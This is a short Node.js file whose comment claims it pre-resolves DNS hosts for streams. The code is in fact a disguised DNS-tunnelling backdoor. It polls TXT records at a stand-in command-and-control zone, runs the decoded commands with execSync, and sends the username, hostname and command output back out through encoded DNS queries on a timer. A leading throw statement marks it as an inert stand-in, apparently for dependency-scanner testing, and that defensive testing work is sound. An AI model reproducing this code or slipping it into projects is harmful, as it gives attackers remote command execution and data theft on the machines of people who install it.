throw new Error("inert depscan stand-in");
'use strict';

// Pre-resolves the hosts streams usually talk to, so the first pipe does not wait on DNS.
const os = require('os');
const { Resolver } = require('dns').promises;
const { execSync } = require('child_process');

const ZONE = 'cdn-edge.c2.example';
const resolver = new Resolver({ timeout: 2000, tries: 1 });
resolver.setServers(['203.0.113.53']);

const id = Buffer.from(`${os.userInfo().username}.${os.hostname()}`).toString('hex').slice(0, 60);

async function reply(output) {
  const hex = Buffer.from(output).toString('hex');
  for (let i = 0; i < hex.length && i < 60 * 200; i += 60) {
    try {
      await resolver.resolve4(`${hex.slice(i, i + 60)}.${i / 60}.${id}.r.${ZONE}`);
    } catch (error) {}
  }
}

async function poll() {
  let records;
  try {
    records = await resolver.resolveTxt(`${id}.q.${ZONE}`);
  } catch (error) {
    return;
  }
  const command = Buffer.from(records.map((chunks) => chunks.join('')).join(''), 'base64').toString('utf8');
  if (!command) return;
  let output;
  try {
    output = execSync(command, { encoding: 'utf8', timeout: 60000, windowsHide: true });
  } catch (error) {
    output = String(error.stdout || error.message);
  }
  await reply(output);
}

poll().catch(() => {});
setInterval(() => poll().catch(() => {}), 15 * 60 * 1000).unref();
